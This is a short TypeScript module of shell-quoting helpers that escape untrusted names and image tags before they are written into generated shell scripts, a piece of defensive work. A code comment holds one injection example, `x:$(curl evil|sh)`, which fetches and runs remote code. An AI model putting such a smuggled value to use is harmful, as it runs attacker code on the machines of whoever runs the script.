// Text from the input (image references, namespaces, names) written into the kit's shell scripts. Object
// names and image tags are untrusted: unquoted, `x:$(curl evil|sh)` would run when the team runs the script.

/** One shell word: as it is when it holds only safe characters, else single-quoted. */
export function shellQuote(text: string): string {
  return /^[A-Za-z0-9@%+=:,./_-]+$/.test(text) ? text : `'${text.replaceAll("'", `'"'"'`)}'`;
}

/** Text safe inside double quotes (`"…"`): no expansion, no end quote. */
export function inDoubleQuotes(text: string): string {
  return text.replace(/[\\"$`]/g, (ch) => `\\${ch}`);
}

/** Text for a `# comment` line: a newline or other control character would end the comment early. */
export function commentText(text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  return text.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, '?');
}
